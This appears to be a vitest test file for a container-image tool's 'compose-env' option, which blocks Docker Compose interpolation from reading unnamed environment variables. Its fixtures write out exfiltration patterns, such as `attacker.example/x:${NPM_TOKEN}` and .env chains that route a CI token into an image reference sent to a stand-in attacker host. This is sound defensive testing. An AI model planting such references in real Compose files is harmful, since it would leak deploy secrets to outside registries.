// compose-env: Compose interpolation reads an environment variable only when the user names it.
// A Compose file (and the .env beside it) is input a pull request can edit, and it chooses the
// variable: `image: attacker.example/x:${NPM_TOKEN}` must not read the job's token.
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { findImages } from '../../src/core/manifests/files.js';
import { GateError } from '../../src/core/errors.js';
import { parseComposeEnv } from '../../src/core/options.js';
import { parseCommand } from '../../src/cli/args.js';
import { runImages } from '../../src/cli/images.js';
import { runPin } from '../../src/cli/pin.js';

const SECRET = 'npm_s3cr3tT0k3nVALUE';

async function project(compose: string, dotEnv?: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'ig-compose-env-'));
  await writeFile(path.join(dir, 'docker-compose.yaml'), compose);
  if (dotEnv !== undefined) await writeFile(path.join(dir, '.env'), dotEnv);
  return path.join(dir, 'docker-compose.yaml');
}

async function images(file: string, env: NodeJS.ProcessEnv, composeEnv?: string[]) {
  const r = await findImages({
    paths: [file],
    lists: [],
    env,
    ...(composeEnv ? { composeEnv } : {}),
  });
  return r.occurrences.map((o) => o.image);
}

async function refusal(file: string, env: NodeJS.ProcessEnv, composeEnv?: string[]) {
  const e: unknown = await images(file, env, composeEnv).then(
    () => undefined,
    (x: unknown) => x,
  );
  expect(e).toBeInstanceOf(GateError);
  expect((e as GateError).code).toBe('USAGE');
  const msg = (e as GateError).message;
  expect(msg).not.toContain(SECRET);
  return msg;
}

describe('compose-env', () => {
  it('refuses a reference reading a secret set in the environment, naming it, never its value', async () => {
    const file = await project('services:\n  web:\n    image: attacker.example/x:${NPM_TOKEN}\n');
    const msg = await refusal(file, { NPM_TOKEN: SECRET, PATH: '/usr/bin' });
    expect(msg).toBe(
      `${file}:3: service web: image 'attacker.example/x:\${NPM_TOKEN}' reads NPM_TOKEN from the environment, which compose-env does not allow; name it in compose-env (--compose-env NPM_TOKEN) if the deploy sets it`,
    );
    // $VAR and the other forms read it too.
    const bare = await project('services:\n  web:\n    image: attacker.example/x:$NPM_TOKEN\n');
    expect(await refusal(bare, { NPM_TOKEN: SECRET })).toMatch(/reads NPM_TOKEN from the env/);
    const alt = await project('services:\n  web:\n    image: x:${NPM_TOKEN:+1}\n');
    expect(await refusal(alt, { NPM_TOKEN: SECRET })).toMatch(/reads NPM_TOKEN from the env/);
    // An image volume's source is interpolated the same way.
    const vol = await project(
      'services:\n  web:\n    image: app:1\n    volumes:\n      - type: image\n        source: a.example/d:${NPM_TOKEN}\n        target: /d\n',
    );
    expect(await refusal(vol, { NPM_TOKEN: SECRET })).toMatch(
      /:6: service web: image volume source 'a\.example\/d:\$\{NPM_TOKEN\}' reads NPM_TOKEN/,
    );
  });

  it('reads a variable compose-env names', async () => {
    const file = await project('services:\n  web:\n    image: registry.example/app:${TAG}\n');
    expect(await images(file, { TAG: '1.2', NPM_TOKEN: SECRET }, ['TAG'])).toEqual([
      'registry.example/app:1.2',
    ]);
  });

  it('uses a value written in .env without any allowance', async () => {
    const file = await project(
      'services:\n  web:\n    image: registry.example/app:${TAG}\n',
      'TAG=2.0\n',
    );
    expect(await images(file, { NPM_TOKEN: SECRET })).toEqual(['registry.example/app:2.0']);
  });

  it('refuses a .env value that reads the environment unless compose-env names the variable', async () => {
    const file = await project(
      'services:\n  web:\n    image: attacker.example/x:${LEAK}\n',
      '# c\nLEAK=${NPM_TOKEN}\n',
    );
    const envFile = path.join(path.dirname(file), '.env');
    expect(await refusal(file, { NPM_TOKEN: SECRET })).toBe(
      `${file}:3: service web: image 'attacker.example/x:\${LEAK}' reads LEAK from ${envFile}:2 ('LEAK=\${NPM_TOKEN}'), which reads NPM_TOKEN from the environment, which compose-env does not allow; name it in compose-env (--compose-env NPM_TOKEN) if the deploy sets it`,
    );
    // A later .env line reading the refused key carries the same refusal.
    const chained = await project(
      'services:\n  web:\n    image: x:${B}\n',
      'A=${NPM_TOKEN}\nB=${A}-b\n',
    );
    expect(await refusal(chained, { NPM_TOKEN: SECRET })).toMatch(
      /reads A from .*\.env:1 .*reads NPM_TOKEN/,
    );
    expect(await images(file, { NPM_TOKEN: 'v1' }, ['NPM_TOKEN'])).toEqual([
      'attacker.example/x:v1',
    ]);
    // A .env line no reference reads does not stop the run.
    const unused = await project(
      'services:\n  web:\n    image: registry.example/app:${TAG}\n',
      'HOME_DIR=${HOME}/x\nTAG=3\n',
    );
    expect(await images(unused, { HOME: '/root' })).toEqual(['registry.example/app:3']);
  });

  it('refuses ${VAR:-default} when VAR is set but not allowed: Compose would deploy the set value', async () => {
    const file = await project('services:\n  web:\n    image: registry.example/app:${TAG:-1.0}\n');
    expect(await refusal(file, { TAG: SECRET })).toMatch(
      /:3: service web: image 'registry\.example\/app:\$\{TAG:-1\.0\}' reads TAG from the environment, which compose-env does not allow/,
    );
    // The environment also wins over .env in Compose, so a .env value does not hide it either.
    const withDotEnv = await project('services:\n  web:\n    image: app:${TAG}\n', 'TAG=1\n');
    expect(await refusal(withDotEnv, { TAG: SECRET })).toMatch(/reads TAG from the environment/);
    // Unset: the default, as before.
    expect(await images(file, { NPM_TOKEN: SECRET })).toEqual(['registry.example/app:1.0']);
  });

  it('leaves an unset variable as before: an error without a default, compose-env or not', async () => {
    const file = await project('services:\n  web:\n    image: nginx:${NGINX_TAG}\n');
    for (const allow of [undefined, ['NGINX_TAG']])
      await expect(images(file, { NPM_TOKEN: SECRET }, allow)).rejects.toThrow(
        /:3: service web: image 'nginx:\$\{NGINX_TAG\}': variable NGINX_TAG is not set and has no default/,
      );
  });

  it('parses names from repeated items and comma lists, refusing what is no variable name', () => {
    expect(parseComposeEnv('--compose-env', ['TAG,REGISTRY', 'TAG', ' B_2 '])).toEqual([
      'TAG',
      'REGISTRY',
      'B_2',
    ]);
    expect(() => parseComposeEnv('compose-env', ['TAG', '1BAD'])).toThrow(
      "compose-env: '1BAD' is not an environment variable name",
    );
  });

  it('reaches every command that reads files: verify, images, pin and pin --check', async () => {
    const v = parseCommand([
      'verify',
      '--key',
      'k.pub',
      '--compose-env',
      'A,B',
      '--from',
      'c.yaml',
    ]);
    expect(v.command === 'verify' && v.options.composeEnv).toEqual(['A', 'B']);
    const i = parseCommand(['images', '--compose-env', 'A', '--compose-env', 'B', 'c.yaml']);
    expect(i.command === 'images' && i.composeEnv).toEqual(['A', 'B']);
    const c = parseCommand(['pin', '--check', '--compose-env', 'TAG', 'c.yaml']);
    expect(c.command === 'pin' && c.composeEnv).toEqual(['TAG']);
    const p = parseCommand(['pin', '--key', 'k.pub', '--compose-env', 'TAG', 'c.yaml']);
    expect(p.command === 'pin' && !p.check && [p.composeEnv, p.options.composeEnv]).toEqual([
      ['TAG'],
      undefined,
    ]);

    const file = await project('services:\n  web:\n    image: attacker.example/x:${NPM_TOKEN}\n');
    const out: string[] = [];
    const io = { stdout: (s: string) => out.push(s), stderr: (s: string) => out.push(s) };
    const env = { NPM_TOKEN: SECRET };
    const images = parseCommand(['images', file]);
    if (images.command !== 'images') throw new Error('not images');
    expect(await runImages(images, { ...io, env })).toBe(2);
    const check = parseCommand(['pin', '--check', file]);
    if (check.command !== 'pin') throw new Error('not pin');
    expect(await runPin(check, { ...io, env })).toBe(2);
    expect(out.join('')).toContain('reads NPM_TOKEN from the environment');
    expect(out.join('')).not.toContain(SECRET);
    out.length = 0;
    const allowed = parseCommand(['images', '--compose-env', 'NPM_TOKEN', file]);
    if (allowed.command !== 'images') throw new Error('not images');
    expect(await runImages(allowed, { ...io, env: { NPM_TOKEN: 'v1' } })).toBe(0);
    expect(out.join('')).toContain('attacker.example/x:v1');
  });
});
